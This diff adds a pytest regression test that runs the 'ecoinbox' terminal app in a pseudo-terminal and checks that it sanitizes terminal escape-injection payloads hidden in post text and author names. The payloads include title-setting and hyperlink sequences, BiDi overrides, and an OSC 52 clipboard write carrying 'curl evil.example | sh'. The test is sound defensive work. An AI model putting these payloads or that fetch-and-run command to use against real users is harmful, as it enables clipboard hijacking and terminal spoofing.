@@ -1,0 +1,409 @@
+"""The real `ecoinbox` in a real pseudo-terminal: hostile posts and names reach the tty as text.
+
+Snapshots and Pilot see Textual's idea of the screen; only the bytes written to a terminal show
+whether an escape sequence slipped through. So the CLI runs in a pty (xterm-256color, 100x30)
+on a store seeded with one conversation per escape family, the payload in the author's display
+name and in the post, each between sentinel words: "QA07<payload>QB07" in the name and
+"QC07 <payload> QD07" in the post. Some are raw in the store (the worst case: nothing cleaned
+them on the way in), the others came through the real Mastodon channel from a local server
+(HTML entities and JSON escapes, decoded before the sanitizer runs), which the app's engine
+polls again at start. The test walks the list with j, waiting each time for the thread of the
+next conversation to be drawn, opens the last one (enter), goes back (esc, k), then quits (q).
+
+What is checked, in everything the app wrote:
+- between two sentinels printed on the same row, the only escape sequences are SGR (colours
+  and styles), and there is no other control character;
+- anywhere, the only sequences are the ones Textual itself writes (listed in TEXTUAL_WRITES),
+  no 8-bit C1 control, no BEL outside those, and no payload (a title, a clipboard text) at all;
+- every conversation's name and post were drawn, and its thread opened, so it cannot pass on an
+  app that printed nothing.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import contextlib
+import fcntl
+import os
+import re
+import select
+import struct
+import subprocess
+import sys
+import termios
+import threading
+import time
+from collections import Counter
+from collections.abc import Iterator
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+
+import ecoinbox
+from ecoinbox.channels.mastodon import MastodonChannel
+from ecoinbox.demo.mastodon_server import MastodonServer
+from ecoinbox.engine import Engine
+from ecoinbox.model import Author, Message
+from ecoinbox.store import open_store
+
+ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
+TOKEN = "pty-test-token-0123456789"
+COLUMNS, ROWS = 100, 30
+CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()  # what OSC 52 would copy
+
+# id -> (family, payload). Each payload is short enough once cleaned that the name fits the
+# list's author column (16 cells): a cut name would split its sentinels across two paints.
+PAYLOADS: dict[str, tuple[str, str]] = {
+    "01": ("CSI cursor moves, clear screen", f"{ESC}[2J{ESC}[H{ESC}[5A{ESC}[3;3H{ESC}[K{ESC}[?1049l"),
+    "02": ("OSC 0 title, BEL", f"{ESC}]0;PWNTITLE0{BEL}"),
+    "03": ("OSC 2 title, ST", f"{ESC}]2;PWNTITLE2{ST}"),
+    "04": ("OSC 8 hyperlink", f"{ESC}]8;;https://evil.example/osc8{BEL}ok{ESC}]8;;{BEL}"),
+    "05": ("OSC 52 clipboard", f"{ESC}]52;c;{CLIPBOARD}{BEL}"),
+    "06": ("DCS", f"{ESC}P$qDCSPAYLOAD{ST}{ESC}P+q544e{ST}"),
+    "07": ("APC (kitty graphics)", f"{ESC}_Gf=100;APCPAYLOAD{ST}"),
+    "08": ("PM", f"{ESC}^PMPAYLOAD{ST}"),
+    "09": ("SOS", f"{ESC}XSOSPAYLOAD{ST}"),
+    "10": ("8-bit C1: CSI, OSC, DCS", "\x9b2J\x9d0;C1TITLE\x9c\x90C1DCS\x9c\x9b31m"),
+    "11": ("BEL and other C0", f"{BEL}\x08\x0b\x0c\x0e\x0f\x7fc0"),
+    "12": ("BiDi overrides and isolates", "\u202eab\u202c\u2066c\u2069\u200f\u061c"),
+    "13": ("zero-width and invisible", "z\u200bw\u200c\u2060j\ufeff\u00ad"),
+    "14": ("tag characters", "".join(chr(0xE0000 + ord(c)) for c in "TAGPAYLOAD")),
+    "15": ("Zalgo", "Z" + "".join(chr(0x300 + i) for i in range(40))),
+    "16": ("SGR colours and blink", f"{ESC}[31;1;5mred{ESC}[0m"),
+    "17": ("reset, charset, DECALN", f"{ESC}c{ESC}(0{ESC}#8{ESC}7{ESC}8"),
+}
+# Through the Mastodon channel: the post as HTML entities, the name as JSON escapes.
+MASTODON_IDS = {"51": "02", "52": "05", "53": "01", "54": "12", "55": "06"}
+PAYLOAD_MARKERS = ["PWNTITLE", "evil.example/osc8", CLIPBOARD, "DCSPAYLOAD", "q544e", "APCPAYLOAD",
+                   "PMPAYLOAD", "SOSPAYLOAD", "C1TITLE", "C1DCS"]  # fmt: skip
+SAFE_LINK = "https://help.example/safe"  # a real link: Textual writes it as OSC 8
+
+# Everything Textual (8.2) writes of its own, seen at start, while drawing and at exit; anything
+# else is a leak. Its OSC 8 links are checked apart: only SAFE_LINK may be one.
+TEXTUAL_WRITES = re.compile(
+    rb"""
+      \x1b\[ [0-9;:]* m                  # SGR: colours and styles
+    | \x1b\[ \d+ ; \d+ H                  # CUP: cursor to row;column, before each painted span
+    | \x1b\[ \? [0-9;]+ [hl]             # DECSET/DECRST: alt screen, mouse, paste, focus, cursor
+    | \x1b\[ \? \d+ \$p                   # DECRQM: asks whether synchronized output is supported
+    | \x1b\[ > \d+ u | \x1b\[ < u        # kitty keyboard protocol on, off
+    | \x1b\] 22 ; [a-z-]+ \x07           # OSC 22: the mouse pointer's shape
+    | \x1b\] 8 ; id=[0-9-]+ ; (?P<link>[^\x07\x1b]*) \x1b\\   # OSC 8: a link a widget made
+    | \x1b\] 8 ;; \x1b\\                  # OSC 8: end of that link
+    """,
+    re.VERBOSE,
+)
+ANY_ESCAPE = re.compile(
+    rb"\x1b(?:\[[\x30-\x3f]*[\x20-\x2f]*[\x40-\x7e]|\][^\x07\x1b]*(?:\x07|\x1b\\)?|.?)", re.DOTALL
+)
+SGR = re.compile(rb"\x1b\[[0-9;:]*m")
+CONTROLS = re.compile(rb"[\x00-\x1f\x7f]")
+# Not escapes, but they change what the text says: BiDi controls, zero-width and tag characters.
+HIDDEN = re.compile("[\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]")
+MARK_FLOOD = re.compile("[\u0300-\u036f]{5,}")  # more than the 4 marks a character may keep
+
+
+@dataclass(frozen=True, slots=True)
+class Hostile:
+    id: str
+    family: str
+    handle: str
+    name: str
+    text: str
+    at: datetime
+
+
+def make_hostile(key: str, family: str, payload: str, at: datetime) -> Hostile:
+    name, text = f"QA{key}{payload}QB{key}", f"QC{key} {payload} QD{key}"
+    return Hostile(key, family, f"h{key}@evil.example", name, text, at)
+
+
+def hostile_conversations(now: datetime) -> list[Hostile]:
+    """One per escape family, newest first (the order of the inbox list)."""
+    made = [
+        make_hostile(key, family, payload, now - timedelta(hours=2, minutes=number))
+        for number, (key, (family, payload)) in enumerate(PAYLOADS.items())
+    ]
+    for number, (key, like) in enumerate(MASTODON_IDS.items()):
+        family, payload = PAYLOADS[like]
+        at = now - timedelta(minutes=10 + number)
+        made.append(make_hostile(key, f"{family}, over Mastodon", payload, at))
+    return sorted(made, key=lambda h: h.at, reverse=True)
+
+
+def entities(text: str) -> str:
+    """Every character but letters and digits as an HTML numeric reference (&#x1b; and so on)."""
+    return "".join(c if c.isascii() and c.isalnum() else f"&#x{ord(c):x};" for c in text)
+
+
+# --- the stack: a Mastodon server in a thread, a seeded store, a config ------------------------
+
+
+@contextlib.contextmanager
+def mastodon_in_a_thread() -> Iterator[MastodonServer]:
+    """The local server on its own loop: the app runs in another process and polls it."""
+    server = MastodonServer(seed=None, token=TOKEN)
+    ready, stop = threading.Event(), threading.Event()
+
+    async def serve() -> None:
+        await server.start()
+        ready.set()
+        while not stop.is_set():
+            await asyncio.sleep(0.05)
+        await server.stop()
+
+    thread = threading.Thread(target=asyncio.run, args=(serve(),), daemon=True)
+    thread.start()
+    assert ready.wait(10), "the local Mastodon server did not start"
+    try:
+        yield server
+    finally:
+        stop.set()
+        thread.join(10)
+
+
+async def seed(db: Path, server: MastodonServer, conversations: list[Hostile]) -> None:
+    store = await open_store(db)
+    try:
+        # One raw post also holds links: a safe one (drawn as OSC 8), two that must stay text.
+        links = (SAFE_LINK, "javascript:alert(1)", f"https://e.example/{ESC}]0;PWNTITLEL{BEL}")
+        raw = []
+        for h in conversations:
+            author = Author("mastodon", f"raw-{h.id}", h.handle, h.name)
+            if h.id in PAYLOADS:
+                extra = links if h.id == "01" else ()
+                raw.append(Message("mastodon", f"raw-{h.id}", author, h.text, h.at, links=extra))
+            else:  # the server's JSON escapes the name; its HTML hides the payload in entities
+                html = f"<p>{entities(h.text)}</p>"
+                server.add_status(author=h.handle, display_name=h.name, text="-", created_at=h.at, html=html)
+        await store.ingest(raw)
+        channel = MastodonChannel("mastodon", server.base_url, TOKEN, account="acme")
+        engine = Engine(store, {"mastodon": channel})
+        await engine.poll_all_once()  # the app's own engine then finds nothing new: no race
+        await engine.stop()
+    finally:
+        await store.close()
+
+
+def write_config(tmp_path: Path, base_url: str) -> Path:
+    path = tmp_path / "config.toml"
+    path.write_text(f"""
+[brand]
+name = "Acme"
+handles = ["acme@social.example"]
+[store]
+path = "{tmp_path / "inbox.db"}"
+[[channels]]
+kind = "mastodon"
+name = "mastodon"
+base_url = "{base_url}"
+account = "acme"
+poll_interval = 3600
+keyring = false
+token_env = "ECOINBOX_PTY_TOKEN"
+""", encoding="utf-8")  # fmt: skip
+    return path
+
+
+# --- the pty ---------------------------------------------------------------------------------
+
+
+class Terminal:
+    """The app on the child side of a pty; a thread drains everything it writes."""
+
+    def __init__(self, argv: list[str], env: dict[str, str]) -> None:
+        self.fd, child = os.openpty()
+        fcntl.ioctl(child, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLUMNS, 0, 0))
+        # subprocess, not pty.fork: the server thread makes a bare fork unsafe.
+        self.process = subprocess.Popen(argv, stdin=child, stdout=child, stderr=child, env=env,
+                                        start_new_session=True)  # fmt: skip
+        os.close(child)
+        self.output = bytearray()
+        self._lock = threading.Lock()
+        self._reader = threading.Thread(target=self._drain, daemon=True)
+        self._reader.start()
+
+    def _drain(self) -> None:
+        while True:
+            try:
+                ready, _, _ = select.select([self.fd], [], [], 0.1)
+                if not ready:
+                    continue
+                data = os.read(self.fd, 65536)
+            except OSError:  # EIO: the child closed the terminal
+                return
+            if not data:
+                return
+            with self._lock:
+                self.output.extend(data)
+
+    def snapshot(self) -> bytes:
+        with self._lock:
+            return bytes(self.output)
+
+    def send(self, keys: str) -> int:
+        """Type `keys`; returns how much output there was before, to wait for what follows."""
+        mark = len(self.snapshot())
+        os.write(self.fd, keys.encode())
+        return mark
+
+    @property
+    def status(self) -> int | None:
+        return self.process.poll()
+
+    def exited(self) -> bool:
+        return self.process.poll() is not None
+
+    def wait_for(self, needle: bytes, *, after: int = 0, timeout: float = 15.0, what: str = "") -> None:
+        """Wait until the app writes `needle` (past offset `after`); fail saying what it wrote."""
+        deadline = time.monotonic() + timeout
+        what = what or repr(needle)
+        while needle not in self.snapshot()[after:]:
+            if self.exited():
+                raise AssertionError(f"the app exited ({self.status}) before {what}:\n{self.tail()}")
+            if time.monotonic() > deadline:
+                raise AssertionError(f"no {what} on the terminal within {timeout:g} s:\n{self.tail()}")
+            time.sleep(0.02)
+
+    def wait_exit(self, timeout: float = 15.0) -> int | None:
+        with contextlib.suppress(subprocess.TimeoutExpired):
+            self.process.wait(timeout)
+        return self.status
+
+    def kill(self) -> None:
+        """Always called: a hung app must not outlive the test."""
+        if not self.exited():
+            self.process.kill()
+            self.process.wait(10)
+        self._reader.join(5)
+        with contextlib.suppress(OSError):
+            os.close(self.fd)
+
+    def tail(self, size: int = 1500) -> str:
+        """The end of the output, escaped: printing it raw would drive the CI's terminal."""
+        return repr(self.snapshot()[-size:])
+
+
+# --- the checks --------------------------------------------------------------------------------
+
+
+def regions(output: bytes, start: bytes, end: bytes) -> Iterator[bytes]:
+    """The bytes between each `start` and the `end` that follows it."""
+    for found in re.finditer(re.escape(start), output):
+        stop = output.find(end, found.end())
+        context = output[found.start() : found.start() + 300]
+        assert stop != -1, f"{start!r} without {end!r} after it: {context!r}"
+        yield output[found.end() : stop]
+
+
+def check_region(label: str, region: bytes) -> None:
+    """Drawn on one row: text and SGR only. A cursor move here is either a leak or a row split
+    between two paints (then the sentinel layout needs fixing): both fail."""
+    bare = SGR.sub(b"", region)
+    assert ESC.encode() not in bare and not CONTROLS.search(bare), f"{label}: {region!r}"
+    text = bare.decode("utf-8")
+    assert not re.search("[\x80-\x9f]", text), f"{label}: a C1 control in {region!r}"
+    assert not HIDDEN.search(text) and not MARK_FLOOD.search(text), f"{label}: {text!r}"
+
+
+def kind_of(sequence: bytes) -> str:
+    """"CSI m", "CSI ?h", "OSC 22" and the like, for the report."""
+    if sequence.startswith(b"\x1b]"):
+        return "OSC " + sequence[2:].split(b";", 1)[0].decode()
+    private = sequence[2:3] if sequence[2:3] in (b"?", b">", b"<") else b""
+    return f"CSI {private.decode()}{sequence[-1:].decode()}"
+
+
+def check_whole_output(output: bytes) -> Counter[str]:
+    """Only what Textual writes, anywhere; returns how many sequences of each kind there were."""
+    text = output.decode("utf-8")  # strict: Textual writes UTF-8, a stray byte is a leak
+    assert not re.search("[\x80-\x9f]", text), "an 8-bit C1 control reached the terminal"
+    links: set[str] = set()
+    kinds: Counter[str] = Counter()
+    for found in ANY_ESCAPE.finditer(output):
+        sequence = found.group()
+        own = TEXTUAL_WRITES.fullmatch(sequence)
+        assert own, (
+            f"a sequence Textual does not write reached the terminal: {sequence!r} (if a new Textual "
+            "writes it itself, add it to TEXTUAL_WRITES and say why)"
+        )
+        if own.group("link") is not None:
+            links.add(own.group("link").decode())
+        kinds[kind_of(sequence)] += 1
+    assert links == {SAFE_LINK}, f"OSC 8 links to {links}: only {SAFE_LINK} is one"
+    plain = ANY_ESCAPE.sub(b"", output).replace(b"\r", b"").replace(b"\n", b"")
+    assert not CONTROLS.search(plain), "a control character other than CR and LF reached the terminal"
+    shown = plain.decode("utf-8")
+    assert not HIDDEN.search(shown), f"a hidden character reached the terminal: {HIDDEN.search(shown)!r}"
+    assert not MARK_FLOOD.search(shown), "a flood of combining marks reached the terminal"
+    for marker in PAYLOAD_MARKERS:
+        assert not re.search(rb"\x1b\][^\x07\x1b]*" + re.escape(marker.encode()), output), marker
+        assert marker.encode() not in output, f"the payload {marker!r} reached the terminal"
+    return kinds
+
+
+@pytest.mark.slow
+def test_hostile_text_reaches_the_terminal_only_as_text(tmp_path):
+    now = datetime.now(UTC)
+    conversations = hostile_conversations(now)
+    with mastodon_in_a_thread() as server:
+        asyncio.run(seed(tmp_path / "inbox.db", server, conversations))
+        config = write_config(tmp_path, server.base_url)
+        code = str(Path(ecoinbox.__file__).parents[1])  # the tested tree, not an installed copy
+        env = {**os.environ, "TERM": "xterm-256color", "ECOINBOX_PTY_TOKEN": TOKEN,
+               "PYTHONPATH": os.pathsep.join(filter(None, [code, os.environ.get("PYTHONPATH")]))}  # fmt: skip
+        for variable in ("NO_COLOR", "COLUMNS", "LINES", "TEXTUAL"):
+            env.pop(variable, None)
+        terminal = Terminal([sys.executable, "-m", "ecoinbox.cli", "--config", str(config)], env)
+        try:
+            total = len(conversations)
+            terminal.wait_for(f"Inbox 1/{total}".encode(), what="the inbox")
+            terminal.wait_for(f"@{conversations[0].handle}".encode(), what="the first thread")
+            for index, hostile in enumerate(conversations[1:], start=2):
+                mark = terminal.send("j")
+                what = f"the thread of {hostile.id}"
+                terminal.wait_for(f"@{hostile.handle}".encode(), after=mark, what=what)
+                terminal.wait_for(f"Inbox {index}/{total}".encode(), after=mark)
+            last, before_last = conversations[-1], conversations[-2]
+            mark = terminal.send("\r")  # read it: the thread takes most of the screen
+            terminal.wait_for(f"@{last.handle}".encode(), after=mark, what="the thread, read")
+            # Back to the list, which grows again: rows that reading hid are drawn. (Only that
+            # proves esc was read: a key sent within ESCDELAY of it would make alt+key.)
+            mark = terminal.send("\x1b")
+            terminal.wait_for(f"QA{conversations[-8].id}".encode(), after=mark, what="the list, back")
+            mark = terminal.send("k")
+            terminal.wait_for(f"@{before_last.handle}".encode(), after=mark, what="the thread above")
+            terminal.send("q")
+            status = terminal.wait_exit()
+            assert status == 0, f"the app ended with {status}:\n{terminal.tail()}"
+        finally:
+            terminal.kill()
+    output = terminal.snapshot()
+
+    kinds = check_whole_output(output)
+    checked = {"name": set(), "post": set(), "thread": set()}
+    count = 0
+    for hostile in conversations:
+        for what, (start, end) in {"name": ("QA", "QB"), "post": ("QC", "QD")}.items():
+            for region in regions(output, f"{start}{hostile.id}".encode(), f"{end}{hostile.id}".encode()):
+                check_region(f"{hostile.family} ({what} {hostile.id})", region)
+                checked[what].add(hostile.id)
+                count += 1
+        header = re.compile(re.escape(f"QB{hostile.id}".encode()) + rb"(?:\x1b\[[0-9;:]*m| )*@"
+                            + re.escape(hostile.handle.encode()))  # fmt: skip
+        if header.search(output):
+            checked["thread"].add(hostile.id)
+    every = {h.id for h in conversations}
+    assert checked == {"name": every, "post": every, "thread": every}, checked
+
+    with contextlib.suppress(Exception):  # shown with or without -s
+        sys.__stdout__.write(
+            f"\npty: {len(conversations)} hostile conversations ({len(PAYLOADS)} raw in the store, "
+            f"{len(MASTODON_IDS)} over Mastodon), {count} sentinel regions checked, "
+            f"{len(checked['thread'])} threads opened, {len(output)} bytes read; sequences by kind: "
+            f"{dict(sorted(kinds.items()))}\n"
+        )
+        sys.__stdout__.flush()
